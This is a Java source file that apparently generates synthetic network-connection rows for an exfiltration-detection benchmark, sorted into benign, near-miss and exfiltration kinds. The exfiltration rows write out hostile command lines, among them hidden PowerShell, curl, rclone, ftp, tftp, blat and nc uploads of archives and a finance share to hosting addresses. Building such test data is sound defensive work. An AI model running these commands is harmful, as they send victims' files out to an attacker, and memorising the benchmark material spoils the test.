package io.egress.bench.gen;

import static io.egress.bench.gen.NetworkSpec.Remote.HOSTING;
import static io.egress.bench.gen.NetworkSpec.Remote.INBOUND_PRIVATE;
import static io.egress.bench.gen.NetworkSpec.Remote.LOOPBACK;
import static io.egress.bench.gen.NetworkSpec.Remote.LOOPBACK_V6;
import static io.egress.bench.gen.NetworkSpec.Remote.PRIVATE;
import static io.egress.bench.gen.NetworkSpec.Remote.PUBLIC_WEB;
import static io.egress.bench.gen.RowKind.BENIGN;
import static io.egress.bench.gen.RowKind.EXFIL;
import static io.egress.bench.gen.RowKind.NEAR_MISS;
import static io.egress.bench.gen.Weighted.pick;

import java.util.List;

/**
 * The table of connections the generator draws from. EXFIL rows reach a public address on one of the
 * seed's plaintext ports from a process outside its allow-list; NEAR_MISS rows are browsers and system
 * services on port 80 (in any letter case), plaintext ports on private or loopback addresses, and
 * encrypted ports; BENIGN rows are the everyday bulk.
 */
public final class NetworkSpecs {
    private static final String CHROME = "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility "
            + "--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none";
    private static final String EDGE = "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility "
            + "--utility-sub-type=network.mojom.NetworkService --lang=en-US";
    private static final String FIREFOX = "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" ";
    private static final String SVCHOST = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv";

    private NetworkSpecs() {
    }

    public static List<NetworkSpec> all() {
        return List.of(
                // ---- benign
                win(BENIGN, 12, "explorer.exe", "chrome.exe", "chrome.exe", PUBLIC_WEB, new int[] {443}, (r, p) -> CHROME),
                win(BENIGN, 8, "explorer.exe", "msedge.exe", "msedge.exe", PUBLIC_WEB, new int[] {443}, (r, p) -> EDGE),
                win(BENIGN, 4, "explorer.exe", "firefox.exe", "firefox.exe", PUBLIC_WEB, new int[] {443}, (r, p) -> FIREFOX),
                win(BENIGN, 4, "explorer.exe", "ms-teams.exe", "ms-teams.exe", PUBLIC_WEB, new int[] {443}, (r, p) -> "\"ms-teams.exe\" "),
                win(BENIGN, 3, "explorer.exe", "OneDrive.exe", "OneDrive.exe", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"),
                win(BENIGN, 3, "explorer.exe", "OUTLOOK.EXE", "OUTLOOK.EXE", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "),
                win(BENIGN, 6, "services.exe", "svchost.exe", "svchost.exe", PUBLIC_WEB, new int[] {443}, (r, p) -> SVCHOST),
                win(BENIGN, 4, "services.exe", "svchost.exe", "svchost.exe", PRIVATE, new int[] {53, 135, 389, 445},
                        (r, p) -> "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache"),
                win(BENIGN, 3, "services.exe", "lsass.exe", "lsass.exe", PRIVATE, new int[] {88, 389, 636},
                        (r, p) -> "C:\\Windows\\system32\\lsass.exe"),
                win(BENIGN, 2, "Code.exe", "git-remote-https.exe", "git-remote-https.exe", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "git-remote-https origin https://github.com/contoso/" + Words.repo(r) + ".git"),
                win(BENIGN, 1, "services.exe", "Veeam.EndPoint.Service.exe", "Veeam.EndPoint.Service.exe", PRIVATE, new int[] {445, 10005},
                        (r, p) -> "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\" "),
                win(BENIGN, 2, "services.exe", "MsMpEng.exe", "MsMpEng.exe", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe\""),
                lin(BENIGN, 3, "systemd", "sshd", "sshd", INBOUND_PRIVATE, new int[] {22}, (r, p) -> "sshd: /usr/sbin/sshd -D"),
                lin(BENIGN, 3, "systemd", "systemd-resolved", "systemd-resolved", PRIVATE, new int[] {53},
                        (r, p) -> "/usr/lib/systemd/systemd-resolved"),
                lin(BENIGN, 1, "systemd", "chronyd", "chronyd", PUBLIC_WEB, new int[] {123}, (r, p) -> "/usr/sbin/chronyd -F 1"),
                lin(BENIGN, 3, "cron", "restic", "restic", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "restic backup --repo s3:https://s3.amazonaws.com/contoso-backup/" + p.device().shortName() + " /etc"),
                lin(BENIGN, 2, "bash", "git", "git", PUBLIC_WEB, new int[] {443, 22}, (r, p) -> "git " + pick(r, "pull --ff-only", "fetch --all")),
                lin(BENIGN, 1, "systemd", "dockerd", "dockerd", PUBLIC_WEB, new int[] {443}, (r, p) -> "/usr/bin/dockerd -H fd://"),
                // ---- near misses
                win(NEAR_MISS, 2, "explorer.exe", "chrome.exe", "CHROME.EXE", PUBLIC_WEB, new int[] {80}, (r, p) -> CHROME),
                win(NEAR_MISS, 2, "explorer.exe", "chrome.exe", "chrome.exe", PUBLIC_WEB, new int[] {80, 8080}, (r, p) -> CHROME),
                win(NEAR_MISS, 1, "explorer.exe", "msedge.exe", "MsEdge.exe", PUBLIC_WEB, new int[] {80}, (r, p) -> EDGE),
                win(NEAR_MISS, 1, "explorer.exe", "firefox.exe", "Firefox.exe", PUBLIC_WEB, new int[] {80}, (r, p) -> FIREFOX),
                win(NEAR_MISS, 3, "services.exe", "svchost.exe", "svchost.exe", PUBLIC_WEB, new int[] {80}, (r, p) -> SVCHOST),
                win(NEAR_MISS, 1, "services.exe", "MsMpEng.exe", "MsMpEng.exe", PUBLIC_WEB, new int[] {80},
                        (r, p) -> "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe\""),
                win(NEAR_MISS, 2, "explorer.exe", "powershell.exe", "powershell.exe", PRIVATE, new int[] {80, 8080},
                        (r, p) -> "powershell.exe -NoProfile -Command Invoke-RestMethod http://" + Words.internalHost(r) + ":8080/api/status"),
                win(NEAR_MISS, 1, "Code.exe", "node.exe", "node.exe", LOOPBACK_V6, new int[] {8080, 8000},
                        (r, p) -> "\"C:\\Program Files\\nodejs\\node.exe\" node_modules\\vite\\bin\\vite.js"),
                win(NEAR_MISS, 2, "cmd.exe", "curl.exe", "curl.exe", PUBLIC_WEB, new int[] {443},
                        (r, p) -> "curl.exe -sSL https://" + Words.site(r) + "/"),
                win(NEAR_MISS, 1, "cmd.exe", "ftp.exe", "ftp.exe", PRIVATE, new int[] {21},
                        (r, p) -> "ftp.exe -s:C:\\ops\\ftp_pull.txt " + Words.internalHost(r)),
                lin(NEAR_MISS, 2, "bash", "python3", "python3", LOOPBACK, new int[] {8000, 8888},
                        (r, p) -> "python3 -m http.server 8000"),
                lin(NEAR_MISS, 1, "bash", "lftp", "lftp", HOSTING, new int[] {990},
                        (r, p) -> "lftp -u etl ftps://" + IpAddresses.hostingV4(r)),
                // ---- exfiltration
                win(EXFIL, 3, "explorer.exe", "powershell.exe", "powershell.exe", HOSTING, new int[] {8080, 80, 8000},
                        (r, p) -> "powershell.exe -NoP -W Hidden -c \"Invoke-WebRequest -Uri http://" + IpAddresses.hostingV4(r)
                                + ":8080/u -Method Put -InFile $env:TEMP\\a.zip\""),
                win(EXFIL, 2, "cmd.exe", "python.exe", "python.exe", HOSTING, new int[] {21, 2121, 8888},
                        (r, p) -> "\"C:\\Program Files\\Python312\\python.exe\" C:\\Users\\Public\\sync.py"),
                win(EXFIL, 1, "cmd.exe", "rclone.exe", "rclone.exe", HOSTING, new int[] {80},
                        (r, p) -> "rclone.exe copy C:\\Shares\\Finance remote:loot --transfers 8 -q"),
                win(EXFIL, 2, "cmd.exe", "ftp.exe", "ftp.exe", HOSTING, new int[] {21},
                        (r, p) -> "ftp.exe -i -s:C:\\Users\\Public\\f.txt " + IpAddresses.hostingV4(r)),
                win(EXFIL, 2, "cmd.exe", "curl.exe", "curl.exe", HOSTING, new int[] {80, 8080},
                        (r, p) -> "curl.exe --data-binary @C:\\Users\\Public\\out.zip http://" + IpAddresses.hostingV4(r) + "/u"),
                win(EXFIL, 1, "cmd.exe", "blat.exe", "blat.exe", HOSTING, new int[] {25},
                        (r, p) -> "blat.exe C:\\Users\\Public\\out.zip -to drop@protonmail.com -server " + IpAddresses.hostingV4(r)),
                win(EXFIL, 1, "cmd.exe", "TFTP.EXE", "TFTP.EXE", HOSTING, new int[] {69},
                        (r, p) -> "tftp -i " + IpAddresses.hostingV4(r) + " PUT C:\\Users\\Public\\out.zip"),
                win(EXFIL, 1, "explorer.exe", "OUTLOOK.EXE", "OUTLOOK.EXE", PUBLIC_WEB, new int[] {110, 143},
                        (r, p) -> "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "),
                lin(EXFIL, 1, "bash", "python3", "python3", HOSTING, new int[] {8000, 8888}, (r, p) -> "python3 /tmp/.x/up.py"),
                lin(EXFIL, 1, "bash", "nc", "nc", HOSTING, new int[] {8080}, (r, p) -> "nc " + IpAddresses.hostingV4(r) + " 8080"),
                lin(EXFIL, 1, "bash", "curl", "curl", HOSTING, new int[] {80},
                        (r, p) -> "curl -T /tmp/dump.tgz http://" + IpAddresses.hostingV4(r) + "/u"),
                lin(EXFIL, 1, "bash", "lftp", "lftp", HOSTING, new int[] {21}, (r, p) -> "lftp -u drop " + IpAddresses.hostingV4(r)));
    }


    private static NetworkSpec win(RowKind kind, int weight, String parent, String image, String reported,
                                   NetworkSpec.Remote remote, int[] ports, ProcessSpec.CommandLine cmd) {
        String protocol = ports.length == 1 && (ports[0] == 69 || ports[0] == 123) ? "Udp" : "Tcp";
        return new NetworkSpec(kind, Os.WINDOWS, weight, parent, image, reported, remote, ports, protocol, cmd);
    }

    private static NetworkSpec lin(RowKind kind, int weight, String parent, String image, String reported,
                                   NetworkSpec.Remote remote, int[] ports, ProcessSpec.CommandLine cmd) {
        String protocol = ports.length == 1 && (ports[0] == 53 || ports[0] == 123) ? "Udp" : "Tcp";
        return new NetworkSpec(kind, Os.LINUX, weight, parent, image, reported, remote, ports, protocol, cmd);
    }
}
